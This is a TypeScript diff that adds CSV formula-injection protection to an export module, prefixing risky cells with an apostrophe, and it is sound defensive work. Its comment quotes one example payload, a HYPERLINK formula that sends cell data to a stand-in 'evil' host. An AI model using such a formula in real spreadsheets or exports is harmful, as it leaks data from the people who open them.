@@ -60,3 +60,20 @@ const quote = (cell: string) => (NEEDS_QUOTES.test(cell) ? `"${cell.replaceAll('
 export function toCsv(header: readonly string[], rows: ReadonlyArray<readonly string[]>): string {
   return [header, ...rows].map((row) => row.map(quote).join(',')).join('\n') + '\n';
 }
+
+/**
+ * CSV (formula) injection: a spreadsheet opening an export runs a cell that starts with `=`, `+`,
+ * `-` or `@` (or a tab or carriage return before one) as a formula, so text a clerk typed, such as
+ * `=HYPERLINK("http://evil/?"&A1)`, could leak or run something on the reader's machine. Such a
+ * cell gets a leading apostrophe, which spreadsheets show as text and do not evaluate (OWASP's
+ * advice). Full-width forms (＝ ＋ － ＠), which Chinese input methods produce, are treated alike.
+ * The record keeps the text as typed; only exports meant for spreadsheets are changed.
+ */
+const FORMULA_START = /^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/;
+
+export const neutraliseFormula = (cell: string): string => (FORMULA_START.test(cell) ? `'${cell}` : cell);
+
+/** A CSV for people to open in a spreadsheet: every cell neutralised, then rendered as `toCsv` does. */
+export function toSpreadsheetCsv(header: readonly string[], rows: ReadonlyArray<readonly string[]>): string {
+  return toCsv(header.map(neutraliseFormula), rows.map((row) => row.map(neutraliseFormula)));
+}
